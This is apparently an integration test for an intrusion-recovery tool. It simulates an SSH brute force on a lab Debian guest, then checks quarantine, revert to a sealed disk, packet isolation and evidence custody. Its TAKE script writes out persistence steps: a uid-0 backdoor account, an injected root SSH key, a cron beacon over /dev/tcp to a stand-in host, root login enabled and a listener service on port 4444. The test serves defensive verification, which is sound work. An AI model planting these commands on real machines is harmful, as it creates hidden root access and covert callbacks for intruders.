"""The machine that was taken comes back: a real Debian guest, sealed clean, guessed at, entered and changed; alarm, quarantine, revert.

What it was is kept as evidence. What boots is the sealed disk with other keys, under a policy that lets the office alone in, and from the alarm on
no packet of the intruder reaches it: that is counted at the machine's own interface.
"""

import json
import os
import subprocess
import time
from pathlib import Path

import witness
from guest import BOOT_SECONDS, Guest
from machine import USER, WEAK, guess_ssh
from server import ALLOW
from stage import HOST, KNOCKER, OFFICE, VM1, Failed, wait_for

ISOLATE = [{"alerts": ["SSH_Incoming_BF_Success"], "minSeverity": "High", "step": "quarantine"}]
# And of the machine that came back, for a day: whatever says that it does harm itself. Its administrator, who asks again and again whether it
# is up, looks like somebody who guesses.
STRICT = [{"alerts": ["PortScanning", "SSH_Outgoing_BF_OneToMany", "RDP_Outgoing_BF_OneToMany", "Network_CommunicationWithC2",
                      "Network_RefusedBeacon", "Network_Exfiltration"], "minSeverity": "Low", "step": "quarantine"}]
# What an intruder leaves behind: an account, a key, a word home each minute, a changed sshd, a service that listens.
TAKE = r"""
useradd --non-unique --uid 0 --gid 0 --create-home mallory
echo 'mallory:owned' | chpasswd
mkdir -p ~root/.ssh && echo "$KEY" >>~root/.ssh/authorized_keys
echo '* * * * * root bash -c "echo home >/dev/tcp/192.0.2.66/443"' >/etc/cron.d/updates
sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
printf '[Service]\nExecStart=/usr/bin/python3 -c "import socket as s; a=s.create_server((\\"\\",4444)); [a.accept() for _ in iter(int,1)]"\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/updates.service
systemctl daemon-reload; systemctl enable --now updates.service; systemctl restart ssh
sync
"""
# What cloud-init is to do with the machine that comes back, and a file that says that it did.
SETTINGS = """#cloud-config
users: []
ssh_pwauth: false
ssh_genkeytypes: [ed25519]
write_files:
  - {path: /etc/came-back, content: by its settings}
"""
SETTLED = "test -e /var/lib/cloud/instance/boot-finished"
LEFT = ["/etc/passwd", "/etc/shadow", ".ssh/authorized_keys", "/etc/cron.d/updates", "/etc/ssh/sshd_config",
        "/etc/systemd/system/updates.service"]


def tell(stage, server, told):
    image = Path(os.environ["PALISADE_GUEST_DISK"])
    guest = Guest(stage, image)
    seal(server, guest, told)
    guest.boot()
    told.claim("anybody reaches the machine", stage.opens("knocker", VM1, 22, 15))
    server.set_policy(ISOLATE, forensic=[{"source": HOST, "port": 22}])
    intruder = take(stage, server, guest, told)
    frames = Frames(stage).start()
    begun = time.time()
    steps = revert(stage, server, guest, told)
    told.figure("revert begun to clean boot started", f"{steps['tighten the policy'] - begun:.1f} s, of which the base was verified in "
                f"{steps['new overlay'] - steps['verify the base']:.1f} s")
    # cloud-init starts sshd anew while it is at work; what opens nothing then says nothing.
    wait_for("the clean guest answers its administrator, with its settings in place", lambda: guest.by_key("office", SETTLED).returncode == 0,
             BOOT_SECONDS, pause=5)
    clean(stage, guest, told, intruder)
    alone(frames, told)
    evidence(server, told)
    policies = json.loads(server.command("answers", "policy", "show", "-g", "g"))
    told.claim("it is watched by a policy of its own", "watch-vm1" in [policy["name"] for policy in policies], policies)


def seal(server, guest, told):
    key = server.stage.folder / "seal.key"
    server.environment["PALISADE_RECOVERY"] = str(server.stage.folder / "recovery")
    server.environment["PALISADE_SEAL_PUBLIC_KEY"] = f"{key}.pub"
    server.command("clean-state", "key", key)
    begun = time.time()
    server.command("clean-state", "create", "vm1", "--disk", guest.disk, "--key", key)
    told.figure("sealing the disk", f"{time.time() - begun:.1f} s")
    server.command("clean-state", "verify", server.tell("clean-state", "list")[0]["id"])


def take(stage, server, guest, told):
    """hydra finds the password, the intruder stays; the alarm isolates the machine. Returns the intruder's key."""
    path = stage.folder / "hydra-guest.log"
    with open(path, "w", encoding="utf-8") as log:
        child = guess_ssh(stage, log, 24)
        wait_for("hydra ends", lambda: child.poll() is not None, 300)
    said = path.read_text(encoding="utf-8")
    told.claim("hydra finds the weak password", f"password: {WEAK}" in said, said)
    key = stage.folder / "intruder-key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    public = Path(f"{key}.pub").read_text(encoding="utf-8").strip()
    script = f"export KEY='{public}'\n{TAKE}\nseq 60000"
    quoted = script.replace("'", "'\\''")
    begun = time.time()
    said = guest.by_password("knocker", f"echo {WEAK} | sudo -S bash -c '{quoted}'")
    told.claim("the intruder makes himself at home", said.stdout.endswith("60000\n"), said.stdout[-500:] + said.stderr[-1500:])
    alert, at = server.alert("SSH_Incoming_BF_Success", 60, subject=KNOCKER)
    told.claim("the alarm is critical", alert["severity"] == "Critical", alert)
    wait_for("the machine is in quarantine", lambda: not stage.opens("knocker", VM1, 22, 3), 30)
    told.figure("break-in to alarm; to the quarantine in force", f"{at - begun:.1f} s; {time.time() - begun:.1f} s")
    return key


def revert(stage, server, guest, told):
    """Back to the sealed disk; when each step began."""
    closed = stage.folder / "closed.json"
    nsg = server.nsg()
    rule = {**ALLOW, "protocol": "Tcp", "sourceAddressPrefix": OFFICE, "destinationPortRange": "22"}
    nsg["properties"] = {"securityRules": [{"name": "office", "properties": rule}]}
    closed.write_text(json.dumps(nsg), encoding="utf-8")
    changes = stage.folder / "changes.json"
    office = Path(f"{guest.key}.pub").read_text(encoding="utf-8").strip()
    changes.write_text(json.dumps({"lockPasswords": ["*"], "authorizedKeys": {USER: [office]},
                                   "sshd": ["PasswordAuthentication no"]}), encoding="utf-8")
    settings = stage.folder / "settings"
    settings.write_text(SETTINGS, encoding="utf-8")
    strict = stage.folder / "strict.json"
    strict.write_text(json.dumps({"rules": STRICT, "forensic": [{"source": HOST, "port": 22}]}), encoding="utf-8")
    words = [stage.palisade, "clean-state", "revert", "vm1", "--vm", "vm1", "--why", "it was taken", "--tightened", closed, "--watch", strict,
             "--seed", guest.drive, "--user-data", settings, "--qmp", guest.qmp, "--link", "net0", "--start", guest.write_command(), "--changes", changes, "--memory-max", "1GiB"]
    child = subprocess.Popen(stage.inside("host", *words), env=server.environment, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                             text=True)
    steps, said = {}, []
    for line in child.stderr:
        steps.setdefault(line.strip(), time.time())
        said.append(line)
    told.claim("the revert ends well", child.wait() == 0, "".join(said))
    if child.returncode:
        raise Failed("no revert, no story")
    return steps


def clean(stage, guest, told, intruder):
    """What the intruder left is gone, and what let him in."""
    gone = guest.by_key("office", "getent passwd mallory; ls /etc/cron.d/updates /etc/systemd/system/updates.service ~mallory")
    told.claim("account, word home and service are gone", gone.stdout == "" and gone.returncode != 0, gone.stdout)
    told.claim("his key opens nothing", guest.by_key("office", "id", intruder, "root").returncode != 0)
    told.claim("the weak password opens nothing", guest.by_password("office", "id").returncode != 0)
    read = guest.by_key("office", "cat /run/cloud-init/instance-data.json /etc/came-back")
    told.claim("cloud-init has read the settings that were written for it", '"instance_id": "vm1-revert-' in read.stdout
               and read.stdout.endswith("by its settings"), read.stdout[-500:] + read.stderr)
    told.claim("he himself reaches nothing", not stage.opens("knocker", VM1, 22, 3) and not stage.opens("knocker", VM1, 4444, 3))


def alone(frames, told):
    """From the alarm on, packets of the intruder came to the host, and none to the machine."""
    knocks = frames.count("knocker", lambda frame: frame["from"] == KNOCKER and frame["to"] == VM1)
    told.figure("packets of the intruder that came to the host meanwhile", knocks)
    told.claim("he knocked all the time", knocks > 20, knocks)
    passed = frames.count("vm-1", lambda frame: frame["way"] == "out" and frame["from"] != OFFICE)
    told.claim("none of them, and nothing else but the office's, was handed to the machine", passed == 0, frames.lines("vm-1")[-20:])
    for part in ("knocker", "world"):
        left = frames.count(part, lambda frame: frame["way"] == "out" and frame["from"] == VM1)
        told.claim(f"nothing of the machine came to the {part}", left == 0, frames.lines(part)[-20:])
    office = frames.count("vm-1", lambda frame: frame["way"] == "out" and frame["from"] == OFFICE)
    told.claim("the counter at the machine counts", office > 0, office)


class Frames:
    """IP packets at three interfaces of the host, while the intruder knocks twice a second."""

    KNOCK = "while :; do for port in 22 4444; do timeout 0.2 bash -c \"</dev/tcp/$0/$port\" 2>/dev/null; done; sleep 0.1; done"

    def __init__(self, stage):
        self.stage = stage

    def start(self):
        for interface in ("vm-1", "knocker", "world"):
            with open(self.path(interface), "w", encoding="utf-8") as log:
                self.stage.start("host", "python3", witness.__file__, "packets", interface, log=log)
        wait_for("the counters count", lambda: all(self.lines(name) for name in ("vm-1", "knocker", "world")))
        self.stage.start("knocker", "bash", "-c", self.KNOCK, VM1)
        return self

    def path(self, interface):
        return self.stage.folder / f"packets-{interface}.log"

    def lines(self, interface):
        return self.path(interface).read_text(encoding="utf-8").splitlines()

    def count(self, interface, wanted):
        # The first line only says that it listens; the last may be written in part.
        frames = [dict(zip(("time", "way", "from", "to"), line.split())) for line in self.lines(interface)[1:]]
        return sum(1 for frame in frames if len(frame) == 4 and wanted(frame))


def evidence(server, told):
    kept = server.tell("evidence", "list")
    told.claim("the machine as it was is in custody", len(kept["evidence"]) == 1, kept)
    head = [line["previous"] for line in kept["custody"]][1:] + [kept["head"]]
    told.claim("the server's audit log has the head of the custody log", f"custody {head[0]}" in server.command("audit", "export"), kept)
    said = server.command("evidence", "diff", kept["evidence"][0]["id"], "--format", "json", codes=(1,))
    missing = [path for path in LEFT if path not in said]
    told.claim("the evidence names all that he left behind", not missing, missing)
